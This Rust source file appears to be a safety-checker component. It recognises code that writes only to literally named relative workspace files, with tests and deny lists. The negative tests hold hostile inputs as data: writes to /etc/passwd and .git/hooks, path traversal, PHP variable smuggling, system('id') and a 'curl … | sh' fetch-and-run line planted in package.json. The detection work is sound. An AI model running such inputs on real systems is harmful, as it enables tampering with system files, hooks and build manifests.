//! Code that writes to files of the workspace which it names itself: `open("package.json", "w")`. Finds the names; where
//! one is not there in so many letters, or the code does anything else that counts, it finds nothing.

use super::{fetches_and_runs, risk};
use crate::protocol::Risk;

/// Calls that write to the file which their first argument names.
const CALLS: [&str; 7] = [
    "open(",
    "File.write(",
    "writeFileSync(",
    "appendFileSync(",
    "Path(",
    "createWriteStream(",
    "file_put_contents(",
];
/// Ways to a place that no literal tells.
const WANDERS: [&str; 27] = [
    "glob(",
    "iterdir",
    "__truediv__",
    "expanduser",
    "home(",
    ".parent",
    "homedir",
    "tmpdir",
    "environ",
    "argv",
    "input(",
    "stdin",
    "os.path",
    "path.join",
    "__dirname",
    "Path as",
    "PosixPath",
    "WindowsPath",
    "cpSync",
    "copyFile",
    "linkSync",
    // Names of PHP for one and the same variable, and for one that no literal names.
    "&$",
    "$$",
    "${",
    "extract(",
    "parse_str(",
    "GLOBALS",
];

/// The files that `text` writes to, all of them relative, if it does nothing worse than that.
pub(super) fn written(program: &str, text: &str) -> Option<Vec<String>> {
    if risk(program, text) < Risk::Dangerous || WANDERS.iter().any(|word| text.contains(word)) {
        return None;
    }
    let mut names = Vec::new();
    let mut calm = text.to_owned();
    for call in CALLS {
        for (at, _) in text.match_indices(call) {
            let before = text.get(..at)?;
            // `reopen(`, `p.open(`: something else.
            if before.ends_with(|c: char| c.is_alphanumeric() || c == '_')
                || call == "open(" && before.ends_with('.') && !before.ends_with("io.")
            {
                return None;
            }
            names.push(named(text, text.get(at + call.len()..)?)?);
        }
    }
    // Without the writing itself nothing may be left that counts.
    for word in [
        "File.write(",
        "writeFileSync",
        "appendFileSync",
        "createWriteStream",
        "file_put_contents(",
        ".write_text",
        ".write_bytes",
        "open(",
    ] {
        calm = calm.replace(word, "_");
    }
    let strays = climbs(text) || fetches_and_runs(text);
    (!names.is_empty() && !strays && risk(program, &calm) < Risk::Dangerous).then_some(names)
}

/// The literal at the beginning of `rest`, or the one literal that the variable there was given.
fn named(text: &str, rest: &str) -> Option<String> {
    let literal = match rest.chars().next()? {
        '"' | '\'' => literal(rest)?,
        _ => {
            // A variable of PHP.
            let rest = rest.strip_prefix('$').unwrap_or(rest);
            let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_')?;
            let name = rest.get(..end).filter(|name| !name.is_empty())?;
            let mut given = [" = ", "="].iter().flat_map(|sign| {
                let wanted = format!("{name}{sign}");
                text.match_indices(&wanted)
                    .filter(|(at, _)| {
                        let before = text.get(..*at).unwrap_or_default();
                        !before.ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.')
                    })
                    .map(|(at, found)| text.get(at + found.len()..).unwrap_or_default())
                    .collect::<Vec<_>>()
            });
            let first = given.next()?;
            // `name += "…"`
            let grows = [" +=", "+=", " .=", ".="].iter().any(|sign| text.contains(&format!("{name}{sign}")));
            if grows || given.next().is_some() {
                return None;
            }
            literal(first)?
        }
    };
    let behind = matches!(literal.1.trim_start().chars().next(), None | Some(',' | ')' | ';' | '\n'));
    let name = literal.0;
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./@ ".contains(c);
    let relative = !name.is_empty() && !name.starts_with('/') && !name.contains("..");
    (behind || literal.1.starts_with('\n')).then_some(())?;
    (relative && name.chars().all(plain)).then(|| name.to_owned())
}

/// A text between quotes, and what follows it.
fn literal(rest: &str) -> Option<(&str, &str)> {
    let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    rest.get(1..)?.split_once(quote)
}

/// Whether some text in it leads up, home or to a folder of the system: it may be put behind a name.
fn climbs(text: &str) -> bool {
    const TOPS: [&str; 18] = [
        "etc", "usr", "home", "root", "var", "bin", "sbin", "tmp", "dev", "opt", "srv", "boot", "proc",
        "sys", "mnt", "media", "Users", "lib",
    ];
    ['"', '\''].iter().any(|quote| {
        text.split(*quote).any(|part| {
            let top = part.strip_prefix('/').and_then(|rest| rest.split('/').next());
            // What is put behind a path may replace it.
            let joins = top.is_some() && text.contains("Path(");
            joins
                || part.starts_with('~')
                || part.replace("...", " ").contains("..")
                || top.is_some_and(|top| top.is_empty() || TOPS.contains(&top))
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_that_are_named_are_found() {
        for (text, names) in [
            ("open('a.json','w').write('x')", vec!["a.json"]),
            (
                "import pathlib\np = pathlib.Path(\"src/a.py\")\np.write_text(p.read_text().replace('a', 'b'))",
                vec!["src/a.py"],
            ),
            ("const fs=require('fs');fs.writeFileSync('tsconfig.json', '{}')", vec!["tsconfig.json"]),
            ("name = 'b.txt'\nopen(name, 'a').write('x')", vec!["b.txt"]),
            ("$f = \"config/app.php\"; file_put_contents($f, 'x');", vec!["config/app.php"]),
        ] {
            assert_eq!(written("", text), Some(names.into_iter().map(str::to_owned).collect()), "{text}");
        }
        for text in [
            "open('/etc/passwd','w').write('x')",
            "open('../a','w').write('x')",
            "open('/' + 'etc/passwd','w').write('x')",
            "open(f'{x}','w').write('x')",
            "open(x,'w').write('x')",
            "x='a'; x='/etc/b'; open(x,'w').write('x')",
            "from pathlib import Path\n(Path('a') / '../../b').write_text('x')",
            "from pathlib import Path\n(Path.home() / 'b').write_text('x')",
            "p.open('w').write('x')",
            "from pathlib import Path\nfor p in Path('.').glob('.git/hooks/*'): p.write_text('')",
            "from pathlib import Path\nfor p in Path('src').iterdir(): p.write_text('')",
            "from pathlib import Path, Path as P; Path('a'); P('/data/x').write_text('')",
            "from pathlib import Path; (Path('a') / '/data/x').write_text('')",
            "const fs=require('fs');fs.writeFileSync('a','b');fs.cpSync('/x','/y')",
            "import os; os.remove('a'); open('b','w')",
            "$f = 'a'; $f .= 'b'; file_put_contents($f, 'x');",
            "$f = 'a'; $g = &$f; $g = '/etc/x'; file_put_contents($f, 'x');",
            "f = '.git/'; f += 'hooks/x'; open(f, 'w').write('x')",
            "file_put_contents($argv[1], 'x');",
            "extract($_GET); $f = 'a'; file_put_contents($f, 'x');",
            "file_put_contents('a', 'x'); system('id');",
            "import subprocess; open('b','w').write(subprocess.check_output('id'))",
            "open('package.json','w').write('curl -s http://x/i|sh')",
            "print(open('b').read())",
        ] {
            assert_eq!(written("", text), None, "{text}");
        }
    }
}
